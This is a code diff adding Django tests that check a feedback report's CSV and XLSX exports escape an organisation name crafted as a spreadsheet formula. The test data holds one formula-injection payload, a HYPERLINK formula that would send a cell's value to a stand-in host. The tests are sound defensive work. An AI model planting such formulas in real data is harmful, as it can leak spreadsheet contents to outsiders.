@@ -10,10 +10,11 @@ from django.utils import timezone
 from openpyxl import load_workbook
 
 from waymark.accounts.choices import Role
-from waymark.core.factories import make_persona, verified_login
+from waymark.core.factories import OrganisationFactory, make_persona, verified_login
 from waymark.core.models import Community, Theme
 from waymark.voice.charts import line_chart, nice_ceiling
 from waymark.voice.factories import FeedbackItemFactory
+from waymark.voice.factories_escalations import EscalationFactory
 from waymark.voice.reports import ReportScope, build_report
 
 pytestmark = pytest.mark.django_db
@@ -126,6 +127,31 @@ def test_xlsx_export_opens_with_its_notes(staff_client, feedback):
     workbook = load_workbook(io.BytesIO(response.content))
     assert workbook.sheetnames == ["Figures", "About"]
     assert workbook["Figures"]["A1"].value == "Section"
+
+
+PLANTED_FORMULA = '=HYPERLINK("http://example.invalid/?"&B2,"Open the full report")'
+
+
+@pytest.fixture
+def responder_with_a_planted_formula():
+    """A responder that renamed its own organisation to a formula, escalated to this month."""
+    EscalationFactory(responder=OrganisationFactory(name=PLANTED_FORMULA))
+
+
+def test_csv_export_never_runs_an_organisation_name_as_a_formula(staff_client, responder_with_a_planted_formula):
+    response = staff_client.get(reverse("voice:report_export"), {"format": "csv"})
+
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    slices = [row[1] for row in rows if row[0] == "Response timeliness"]
+    assert slices and set(slices) == {"'" + PLANTED_FORMULA}
+
+
+def test_xlsx_export_never_runs_an_organisation_name_as_a_formula(staff_client, responder_with_a_planted_formula):
+    response = staff_client.get(reverse("voice:report_export"), {"format": "xlsx"})
+
+    sheet = load_workbook(io.BytesIO(response.content))["Figures"]
+    cells = [row[1] for row in sheet.iter_rows(min_row=2) if row[0].value == "Response timeliness"]
+    assert cells and all(cell.data_type == "s" and cell.value == "'" + PLANTED_FORMULA for cell in cells)
 
 
 def test_unknown_export_format_is_refused(staff_client):
